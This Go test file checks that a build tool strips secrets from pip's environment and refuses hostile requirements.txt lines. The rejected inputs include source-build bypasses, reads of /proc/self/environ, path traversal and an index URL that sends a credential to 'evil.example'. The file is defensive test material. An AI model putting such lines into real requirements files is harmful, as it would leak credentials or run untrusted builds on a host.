package build

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestPipEnv(t *testing.T) {
	environ := []string{
		"PATH=/usr/bin:/bin",
		"HOME=/home/runner",
		"HTTPS_PROXY=http://proxy:3128",
		"no_proxy=localhost",
		"PIP_INDEX_URL=https://mirror/simple",
		"PIP_NO_BINARY=:all:",
		"PIP_ONLY_BINARY=:none:",
		"INPUT_TOKEN=ghs_secret",
		"INPUT_KUBECONFIG=apiVersion: v1",
		"GITHUB_TOKEN=ghs_other",
		"KUBECONFIG=/work/kubeconfig",
		"AWS_SECRET_ACCESS_KEY=abc",
		"PYTHONPATH=/evil",
		"NOEQUALS",
	}
	assert.Equal(t, []string{
		"PATH=/usr/bin:/bin",
		"HOME=/home/runner",
		"HTTPS_PROXY=http://proxy:3128",
		"no_proxy=localhost",
		"PIP_INDEX_URL=https://mirror/simple",
	}, PipEnv(environ))
	assert.Empty(t, PipEnv(nil))
}

// envPipScript is a pip that records its environment, then installs.
const envPipScript = `#!/bin/sh
env > "$FAKE_PIP_LOG.env"
` + "exec $FAKE_PIP_LOG.next \"$@\"\n"

// TestBuildPipSeesNoSecrets runs a build with secrets in the environment it
// is given and checks what pip saw.
func TestBuildPipSeesNoSecrets(t *testing.T) {
	t.Setenv("INPUT_PROCESS_TOKEN", "secret6")
	reg := newTestRegistry(t)
	base := reg.ref("library/python:3.11")
	reg.push(t, base, pythonBase(true).image(t))
	pip := newFakePip(t, fakePipScript)
	spy := newFakePip(t, strings.ReplaceAll(envPipScript, "$FAKE_PIP_LOG.next", pip.cmd[0]))
	opts := reg.options(t, newProject(t, map[string]string{"requirements.txt": "requests\n"}), base, spy)
	opts.Environ = []string{
		"PATH=/usr/bin:/bin", "HOME=/tmp", "PIP_INDEX_URL=https://mirror/simple",
		"INPUT_TOKEN=ghs_secret1", "INPUT_KUBECONFIG=users: [{name: u, user: {token: kc_secret2}}]",
		"GITHUB_TOKEN=ghs_secret3", "KUBECONFIG=/tmp/kc_secret4", "ACTIONS_RUNTIME_TOKEN=secret5",
	}

	_, err := Build(context.Background(), opts)
	require.NoError(t, err)
	require.Len(t, pip.runs(t), 1)
	seen, err := os.ReadFile(spy.log + ".env")
	require.NoError(t, err)
	env := string(seen)
	assert.Contains(t, env, "PIP_INDEX_URL=https://mirror/simple")
	assert.Contains(t, env, "HOME=/tmp")
	assert.Contains(t, env, "PIP_ROOT_USER_ACTION=ignore")
	for _, secret := range []string{"secret1", "kc_secret2", "secret3", "kc_secret4", "secret5", "secret6", "INPUT_", "GITHUB_TOKEN", "KUBECONFIG"} {
		assert.NotContains(t, env, secret)
	}
}

// checkProject checks the requirements.txt of the project in dir as a
// build does, with pip's own parser.
func checkProject(t *testing.T, dir string) error {
	t.Helper()
	b := &builder{projectDir: dir, requirements: DefaultRequirements, pip: DefaultPip, pipCred: hostCredential()}
	ws, err := newWorkspace(b.pipCred)
	require.NoError(t, err)
	defer ws.remove()
	_, err = b.checkRequirements(context.Background(), ws)
	return err
}

func TestCheckRequirements(t *testing.T) {
	fix := "pip only installs wheels here: use a base image that has the package (the base_image input, --base-image) or point --find-links at a wheel of it"
	wheel := "PK\x03\x04"
	tests := []struct {
		name    string
		files   map[string]string
		wantErr string // "" for accepted
	}{
		{name: "names, versions, extras, markers and options", files: map[string]string{"requirements.txt": "" +
			"# comment\n" +
			"requests==2.32.3  # pinned\n" +
			"PyYAML[libyaml] >= 6 ; python_version >= '3.8'\n" +
			"--find-links ./wheels\n--no-index\n-i https://mirror/simple\n" +
			"--only-binary :all:\n--prefer-binary\n--pre\n" +
			"numpy==2.0 \\\n    --hash=sha256:abcd\n" +
			"tinydep @ https://example.com/tinydep-0.1.0-py3-none-any.whl\n" +
			"./wheels/tinydep-0.1.0-py3-none-any.whl\n",
			"wheels/tinydep-0.1.0-py3-none-any.whl": wheel}},
		{name: "no-binary", files: map[string]string{"requirements.txt": "requests\n--no-binary :all:\n"},
			wantErr: `requirements.txt:2: "--no-binary" allows building packages from source; `},
		// The option's value is not shown: it is the file's content.
		{name: "no-binary=", files: map[string]string{"requirements.txt": "--no-binary=numpy\n"},
			wantErr: `requirements.txt:1: "--no-binary" allows building`},
		{name: "no-binary after a requirement", files: map[string]string{"requirements.txt": "a\nb\nnumpy --no-binary numpy\n"},
			wantErr: `requirements.txt:3: "--no-binary" allows`},
		{name: "only-binary none", files: map[string]string{"requirements.txt": "--only-binary=:none:\n"},
			wantErr: `requirements.txt:1: "--only-binary" allows building`},
		{name: "only-binary all then none", files: map[string]string{"requirements.txt": "--only-binary=:all:,:none:\n"},
			wantErr: `requirements.txt:1: "--only-binary" allows building`},
		{name: "editable", files: map[string]string{"requirements.txt": "-e .\n"},
			wantErr: `requirements.txt:1: "--editable" installs an editable project`},
		{name: "editable attached", files: map[string]string{"requirements.txt": "-e./pkg\n"},
			wantErr: `requirements.txt:1: "--editable" installs an editable project`},
		{name: "editable long", files: map[string]string{"requirements.txt": "--editable=git+https://x/y.git#egg=y\n"},
			wantErr: `requirements.txt:1: "--editable" installs an editable project`},
		// pip's requirements files do not take these at all.
		{name: "no build isolation", files: map[string]string{"requirements.txt": "--no-build-isolation\n"},
			wantErr: `requirements.txt:1: is a line pip's parser cannot read`},
		{name: "use-pep517", files: map[string]string{"requirements.txt": "--use-pep517\n"},
			wantErr: `requirements.txt:1: is a line pip's parser cannot read`},
		// pip 23.1 takes --config-settings, earlier ones do not.
		{name: "config settings", files: map[string]string{"requirements.txt": "numpy --config-settings=setup-args=-Dblas=none\n"},
			wantErr: `requirements.txt:1: `},
		{name: "global option", files: map[string]string{"requirements.txt": "numpy --global-option=build_ext\n"},
			wantErr: `requirements.txt:1: "--global-option" passes options to a source build`},
		{name: "trusted host", files: map[string]string{"requirements.txt": "--trusted-host mirror\n"},
			wantErr: `requirements.txt:1: "--trusted-host" is not an option k8s-testrun lets pip take`},
		{name: "sdist path", files: map[string]string{"requirements.txt": "./vendor/evil-1.0.tar.gz\n"},
			wantErr: `requirements.txt:1: names a source archive, which pip builds from source`},
		{name: "sdist name only", files: map[string]string{"requirements.txt": "evil-1.0.zip\n"},
			wantErr: `requirements.txt:1: names a source archive`},
		{name: "sdist URL", files: map[string]string{"requirements.txt": "https://example.com/evil-1.0.tar.gz#sha256=00\n"},
			wantErr: `requirements.txt:1: names a source archive`},
		{name: "direct reference to sdist", files: map[string]string{"requirements.txt": "evil @ https://example.com/evil-1.0.tar.gz\n"},
			wantErr: `requirements.txt:1: names a source archive`},
		{name: "local project directory", files: map[string]string{"requirements.txt": ".\n"},
			wantErr: `requirements.txt:1: is not a requirement pip can install from a wheel`},
		{name: "vcs", files: map[string]string{"requirements.txt": "git+https://github.com/x/y.git@v1#egg=y\n"},
			wantErr: `names a version control checkout`},
		{name: "vcs direct reference", files: map[string]string{"requirements.txt": "y @ git+https://github.com/x/y.git\n"},
			wantErr: `names a version control checkout`},
		{name: "wheel outside the project", files: map[string]string{"requirements.txt": "file:///wheels/x-1-py3-none-any.whl#sha256=00\n"},
			wantErr: `requirements.txt:1: names a wheel outside the project`},
		{name: "wheel missing", files: map[string]string{"requirements.txt": "./wheels/x-1-py3-none-any.whl\n"},
			wantErr: `requirements.txt:1: names a wheel that does not exist in the project`},
		{name: "find-links outside the project", files: map[string]string{"requirements.txt": "--find-links /opt/wheels\n"},
			wantErr: `requirements.txt:1: "--find-links" names a location that is neither`},
		{name: "find-links above the project", files: map[string]string{"requirements.txt": "--find-links ../../../../../../../../opt\n"},
			wantErr: `requirements.txt:1: "--find-links" names a path that is not a directory of the project`},
		{name: "find-links in the home directory", files: map[string]string{"requirements.txt": "--find-links ~/wheels\n"},
			wantErr: `requirements.txt:1: "--find-links" names a location that is neither`},
		{name: "find-links file URL", files: map[string]string{"requirements.txt": "-f file:///opt/wheels\n"},
			wantErr: `requirements.txt:1: "--find-links" names a location`},
		{name: "file index", files: map[string]string{"requirements.txt": "--extra-index-url file:///proc/1/\nenviron\n"},
			wantErr: `requirements.txt:1: "--index-url/--extra-index-url" names an index that is not an http(s) URL`},
		{name: "continuation keeps the first line's number", files: map[string]string{"requirements.txt": "a\nnumpy \\\n  --no-binary=numpy\n"},
			wantErr: `requirements.txt:2: "--no-binary"`},
		{name: "a comment is not an option", files: map[string]string{"requirements.txt": "requests # --no-binary :all:\n#-e .\n"}},
		{name: "nested -r", files: map[string]string{
			"requirements.txt": "requests\n-r other.txt\n",
			"other.txt":        "six\n--no-binary :all:\n",
		}, wantErr: `other.txt:2: "--no-binary" allows building`},
		{name: "nested forms and directories", files: map[string]string{
			"requirements.txt":     "--requirement=reqs/base.txt\n",
			"reqs/base.txt":        "-rdev.txt\n-c constraints.txt\n",
			"reqs/dev.txt":         "pytest\n",
			"reqs/constraints.txt": "-e ../src\n",
		}, wantErr: `reqs/constraints.txt:1: "--editable" installs`},
		{name: "nested cycle is fine", files: map[string]string{
			"requirements.txt": "-r other.txt\n",
			"other.txt":        "-r requirements.txt\nsix\n",
		}},
		{name: "nested missing", files: map[string]string{"requirements.txt": "-r nope.txt\n"},
			wantErr: `requirements.txt:1: "--requirement" names a file that does not exist in the project`},
		{name: "nested Python module", files: map[string]string{"requirements.txt": "-c pip.py\n", "pip.py": "six\n"},
			wantErr: `requirements.txt:1: "--constraint" names a file with the name of a Python module; rename it`},
		{name: "nested from the network", files: map[string]string{"requirements.txt": "-r https://example.com/r.txt\n"},
			wantErr: `requirements.txt:1: "--requirement" names a requirements file on the network`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			dir := newProject(t, tt.files)
			err := checkProject(t, dir)
			if tt.wantErr == "" {
				require.NoError(t, err)
				return
			}
			require.Error(t, err)
			assert.Contains(t, err.Error(), tt.wantErr)
			assert.NotContains(t, err.Error(), "\n", "one line")
			var re *RequirementsError
			require.ErrorAs(t, err, &re)
			if strings.Contains(tt.wantErr, "from source") || strings.Contains(tt.wantErr, "editable") {
				assert.Contains(t, err.Error(), fix)
			}
		})
	}
}

// TestBuildRejectsSourceBuilds checks that pip never starts on a
// requirements file that allows a source build, nested or not.
func TestBuildRejectsSourceBuilds(t *testing.T) {
	reg := newTestRegistry(t)
	base := reg.ref("library/python:3.11")
	reg.push(t, base, pythonBase(true).image(t))
	for name, files := range map[string]map[string]string{
		"top":    {"requirements.txt": "requests\n--no-binary :all:\n"},
		"nested": {"requirements.txt": "-r dev/more.txt\n", "dev/more.txt": "\n\nevil @ ./evil-1.0.tar.gz\n"},
	} {
		t.Run(name, func(t *testing.T) {
			pip := newFakePip(t, fakePipScript)
			_, err := Build(context.Background(), reg.options(t, newProject(t, files), base, pip))
			var re *RequirementsError
			require.ErrorAs(t, err, &re)
			assert.Empty(t, pip.runs(t), "pip must not run")
			assert.Zero(t, reg.rec.count("PUT", "/manifests/"))
		})
	}
}

// TestNestedRequirementsInCacheKey checks that a change in a file the
// requirements chain in makes pip run again.
func TestNestedRequirementsInCacheKey(t *testing.T) {
	reg := newTestRegistry(t)
	base := reg.ref("library/python:3.11")
	reg.push(t, base, pythonBase(true).image(t))
	project := newProject(t, map[string]string{"requirements.txt": "-r other.txt\n", "other.txt": "six\n"})
	pip := newFakePip(t, fakePipScript)
	opts := reg.options(t, project, base, pip)
	_, err := Build(context.Background(), opts)
	require.NoError(t, err)
	_, err = Build(context.Background(), opts)
	require.NoError(t, err)
	require.Len(t, pip.runs(t), 1, "unchanged: cached")
	require.NoError(t, os.WriteFile(filepath.Join(project, "other.txt"), []byte("six==1.16\n"), 0o644))
	_, err = Build(context.Background(), opts)
	require.NoError(t, err)
	assert.Len(t, pip.runs(t), 2, "a nested file changed: pip runs again")
}

// TestBuildRefusesRequirementsBypasses runs pip's own requirements parser
// on lines that once passed a check of their spelling: each would let pip
// build from source (and run a build backend on the host), read a file of
// the host's, or publish the environment. Pip must not start, and no error
// may quote a line or a file.
func TestBuildRefusesRequirementsBypasses(t *testing.T) {
	reg := newTestRegistry(t)
	base := reg.ref("library/python:3.11")
	reg.push(t, base, pythonBase(true).image(t))
	outside := filepath.Join(t.TempDir(), "outside.txt")
	require.NoError(t, os.WriteFile(outside, []byte("outside-s3cr3t\n"), 0o644))
	tests := []struct {
		name    string
		files   map[string]string
		wantErr string
	}{
		{name: "no-binary abbreviated", files: map[string]string{"requirements.txt": "six\n--no-bin=:all:\n"},
			wantErr: `requirements.txt:2: "--no-binary" allows building packages from source`},
		{name: "only-binary none abbreviated", files: map[string]string{"requirements.txt": "--only-bin=:none:\n"},
			wantErr: `requirements.txt:1: "--only-binary" allows building packages from source`},
		{name: "only-binary none quoted", files: map[string]string{"requirements.txt": "--only-binary=:no''ne:\n"},
			wantErr: `requirements.txt:1: "--only-binary" allows building packages from source`},
		{name: "line split by a control character", files: map[string]string{"requirements.txt": "six\x1c-e .\n"},
			wantErr: `requirements.txt:2: "--editable" installs an editable project`},
		{name: "editable abbreviated", files: map[string]string{"requirements.txt": "--edit=.\n"},
			wantErr: `requirements.txt:1: "--editable" installs an editable project`},
		{name: "nested file named by an abbreviation", files: map[string]string{
			"requirements.txt": "--requirem=nested.txt\n", "nested.txt": "six\n--no-binary :all:\n"},
			wantErr: `nested.txt:2: "--no-binary" allows building`},
		{name: "the environment as a requirements file", files: map[string]string{"requirements.txt": "-r /proc/self/environ\n"},
			wantErr: `requirements.txt:1: "--requirement" names a file outside the project`},
		{name: "a file outside the project", files: map[string]string{"requirements.txt": "six\n-c " + outside + "\n"},
			wantErr: `requirements.txt:2: "--constraint" names a file outside the project`},
		{name: "a file above the project", files: map[string]string{"requirements.txt": "-r ../../../../../../../../../" + outside + "\n"},
			wantErr: `requirements.txt:1: "--requirement" names a file outside the project`},
		{name: "an environment variable", files: map[string]string{"requirements.txt": "--extra-index-url https://evil.example/${PIP_INDEX_URL}\n"},
			wantErr: `requirements.txt:1: names an environment variable`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			pip := newFakePip(t, fakePipScript)
			opts := reg.options(t, newProject(t, tt.files), base, pip)
			opts.Environ = append(os.Environ(), "PIP_INDEX_URL=https://user:pip-s3cr3t@mirror/simple")
			_, err := Build(context.Background(), opts)
			require.Error(t, err)
			var re *RequirementsError
			require.ErrorAs(t, err, &re, "%v", err)
			assert.Contains(t, err.Error(), tt.wantErr)
			assert.Empty(t, pip.runs(t), "pip must not run")
			for _, secret := range []string{"s3cr3t", "PATH=", "six", ":all:", ":none:"} {
				assert.NotContains(t, err.Error(), secret, "no error quotes a file")
				assert.NotContains(t, re.Text, secret)
			}
		})
	}
}

// TestCheckRequirementsParserProblems checks the errors of a pip command
// whose interpreter cannot run the parser: never its output, which may
// quote the file.
func TestCheckRequirementsParserProblems(t *testing.T) {
	for _, tt := range []struct {
		name, script, wantErr string
	}{
		{name: "no pip", script: "echo \"No module named pip; requests==1\" >&2; exit 1",
			wantErr: "exit status 1; pip must be installed for "},
		{name: "crash", script: "echo 'Traceback: requests==1' >&2; exit 1",
			wantErr: "exit status 1; pip's parser failed on it; run pip install -r on it to see pip's message"},
		{name: "unknown pip", script: `printf '{"unsupported": "99.0"}'`,
			wantErr: `("99.0") has a requirements parser that k8s-testrun does not know`},
		{name: "no report", script: "echo requests==1",
			wantErr: "-I) printed no report"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			python := newFakePip(t, "#!/bin/sh\n"+tt.script+"\n")
			dir := newProject(t, map[string]string{"requirements.txt": "requests==1\n"})
			b := &builder{projectDir: dir, requirements: DefaultRequirements, pip: []string{python.cmd[0], "-m", "pip"}, pipCred: hostCredential()}
			ws, err := newWorkspace(b.pipCred)
			require.NoError(t, err)
			defer ws.remove()
			_, err = b.checkRequirements(context.Background(), ws)
			require.ErrorContains(t, err, tt.wantErr)
			assert.NotContains(t, err.Error(), "requests")
		})
	}
}

// TestBuildRefusesSymlinksOutOfTheProject checks that a requirements file
// that is a symbolic link out of the project is never read, at the top or
// chained in.
func TestBuildRefusesSymlinksOutOfTheProject(t *testing.T) {
	reg := newTestRegistry(t)
	base := reg.ref("library/python:3.11")
	reg.push(t, base, pythonBase(true).image(t))
	for _, tt := range []struct {
		name, link, wantErr string
		files               map[string]string
	}{
		{name: "top", link: "requirements.txt",
			wantErr: "requirements file requirements.txt is outside the project directory; copy it into the project"},
		{name: "nested", link: "reqs/more.txt", files: map[string]string{"requirements.txt": "six\n-r reqs/more.txt\n"},
			wantErr: `requirements.txt:2: "--requirement" names a file outside the project`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			project := newProject(t, tt.files)
			require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(project, tt.link)), 0o755))
			require.NoError(t, os.Symlink("/proc/self/environ", filepath.Join(project, tt.link)))
			pip := newFakePip(t, fakePipScript)
			_, err := Build(context.Background(), reg.options(t, project, base, pip))
			require.ErrorContains(t, err, tt.wantErr)
			assert.NotContains(t, err.Error(), "PATH=")
			assert.Empty(t, pip.runs(t))
		})
	}
}
